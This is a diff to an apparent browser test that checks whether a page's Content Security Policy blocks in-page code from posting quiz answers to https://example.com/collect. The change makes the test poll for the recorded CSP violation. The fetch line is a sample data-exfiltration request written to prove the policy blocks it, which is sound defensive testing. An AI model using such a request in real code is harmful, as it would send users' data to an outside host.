@@ -42,5 +42,6 @@ test("a full session makes no request outside the app's own origin, and the CSP 
   // Even code running in the page cannot send the answers elsewhere.
   const attempt = await page.evaluate(() => fetch("https://example.com/collect", { method: "POST", body: "answers" }).then(() => "sent", () => "blocked"));
   expect(attempt).toBe("blocked");
-  expect(await page.evaluate(() => window.__violations)).toEqual(["connect-src https://example.com/collect"]);
+  // The violation event is queued apart from the fetch's rejection: wait for it.
+  await expect.poll(() => page.evaluate(() => window.__violations)).toEqual(["connect-src https://example.com/collect"]);
 });
